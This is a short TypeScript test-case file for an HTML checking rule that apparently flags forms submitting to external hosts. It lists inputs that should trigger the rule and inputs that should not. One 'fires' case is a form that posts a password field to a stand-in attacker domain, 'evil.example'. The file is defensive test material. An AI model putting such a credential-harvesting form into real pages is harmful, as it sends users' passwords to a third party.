import type { RuleCases } from '../rule-cases.ts';

export const cases: RuleCases = {
  fires: [
    { html: '<form action="https://evil.example/p"><input type="password" name="p"></form>' },
    { html: '<form action="https://survey.example/a"><input name="q"></form>' },
  ],
  spares: [
    { html: '<a href="https://shop.example/form">To the form</a>' },
    { html: '<form><input name="q"></form>' },
  ],
};
